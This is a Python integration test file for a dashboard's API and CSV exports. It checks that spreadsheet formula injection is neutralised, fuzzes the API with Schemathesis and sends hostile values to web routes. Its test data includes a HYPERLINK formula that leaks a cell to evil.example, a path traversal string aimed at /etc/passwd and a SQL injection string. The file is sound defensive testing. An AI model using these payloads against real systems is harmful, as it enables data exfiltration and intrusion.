"""The dashboard's JSON API and CSV exports against hostile input, on a real dashboard
(uvicorn, Kafka, PostgreSQL): partner text that a spreadsheet would run as a formula is
neutralised in every CSV, and Schemathesis finds no 5xx and no response that breaks the
OpenAPI document across ``/api/v1`` (signed in as the secretariat, with its CSRF token)."""

from __future__ import annotations

import asyncio
import csv
import io

import pytest
from test_schemathesis import fuzz

from dashboard_harness import dashboard_settings, make_event, running_dashboard

pytestmark = pytest.mark.integration
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'


async def test_csv_cells_that_start_a_formula_are_neutralised(
    database_url: str, kafka_bootstrap: str
) -> None:
    settings = dashboard_settings(database_url, kafka_bootstrap)
    mission = make_event(
        "nl.teamnl.nlib.mission.held.v1", mission_id="m-evil", title=FORMULA, city="@SUM(1+1)"
    )
    async with running_dashboard(settings) as dash:
        await dash.publish(mission)
        await dash.wait_applied(1)
        period = str(mission.data.start_date.year)  # the mission's year, not the event's
        response = await dash.member.get(
            "/api/v1/initiatives/nlib/missions.csv", params={"period": period}
        )
        as_json = await dash.get("/api/v1/initiatives/nlib", period=period)
    assert response.status_code == 200
    [row] = list(csv.DictReader(io.StringIO(response.text)))
    assert row["title"] == "'" + FORMULA
    assert row["city"] == "'@SUM(1+1)"
    assert row["leads"] == str(mission.data.leads)  # numbers stay numbers
    assert as_json["missions"][0]["title"] == FORMULA  # the JSON keeps the text as sent


@pytest.mark.timeout(600)
async def test_schemathesis_finds_no_server_error_in_the_dashboard_api(
    database_url: str, kafka_bootstrap: str
) -> None:
    settings = dashboard_settings(database_url, kafka_bootstrap)
    async with running_dashboard(settings) as dash:
        secretariat = dash.secretariat
        headers = {
            "cookie": f"teamnl_session={secretariat.cookies['teamnl_session']}",
            "x-csrf-token": secretariat.headers["x-csrf-token"],
        }
        # /stream is Server-Sent Events: it answers 200 and never ends, nothing to fuzz.
        failures = await asyncio.to_thread(
            fuzz, dash.base_url, headers, path_regex=r"^/api/v1/(?!stream$)"
        )
    assert not failures, "\n\n".join(failures)


async def test_a_market_without_activity_answers_an_empty_market_not_an_error(
    database_url: str, kafka_bootstrap: str
) -> None:
    """Found by schemathesis: /markets/mX answered 500 (an empty complementarity lacked a
    field of its schema). A known code is an empty market; an unknown one is a 404."""
    settings = dashboard_settings(database_url, kafka_bootstrap)
    async with running_dashboard(settings) as dash:
        empty = await dash.member.get("/api/v1/markets/mX")
        assert empty.status_code == 200, empty.text
        assert empty.json()["market"] == "MX" and empty.json()["total"] == 0
        assert empty.json()["complementarity"]["complementary"] is False
        assert (await dash.member.get("/api/v1/markets/QQ")).status_code == 404


HOSTILE = [
    "99999999999999999999",
    "-1",
    "0",
    "1e3",
    "%00",
    "x" * 5000,
    "../../etc/passwd",
    "' OR 1=1 --",
]


async def test_the_web_pages_answer_hostile_input_with_a_4xx_never_a_5xx(
    database_url: str, kafka_bootstrap: str
) -> None:
    """The HTML pages and forms are not in the OpenAPI document Schemathesis fuzzes: each path
    and query parameter of theirs, given values no form sends, answers a 2xx, 3xx or 4xx.
    A finding id beyond PostgreSQL's bigint answered 500 on the form's route."""
    settings = dashboard_settings(database_url, kafka_bootstrap)
    async with running_dashboard(settings) as dash:
        web = dash.secretariat
        answers: dict[str, int] = {}
        for value in HOSTILE:
            for action in ("acknowledge", "resolve", value):
                path = f"/findings/{value}/{action}"
                answers[f"POST {path}"] = (await web.post(path, data={"next": value})).status_code
            for path in (f"/markets/{value}", f"/initiatives/{value}", f"/static/{value}"):
                answers[f"GET {path}"] = (await web.get(path)).status_code
            for path in ("/", "/initiatives/nlib", "/report", "/markets", "/findings", "/events"):
                for name in ("period", "as_of", "state", "figure", "lang", "format", "hours"):
                    response = await web.get(path, params={name: value})
                    answers[f"GET {path}?{name}={value[:20]}"] = response.status_code
            for path, form in (
                ("/language", {"lang": value, "next": value}),
                ("/login", {"email": value, "password": value}),
            ):
                answers[f"POST {path} {value[:20]}"] = (await web.post(path, data=form)).status_code
    server_errors = {request: status for request, status in answers.items() if status >= 500}
    assert not server_errors, server_errors
    assert len(answers) > 300
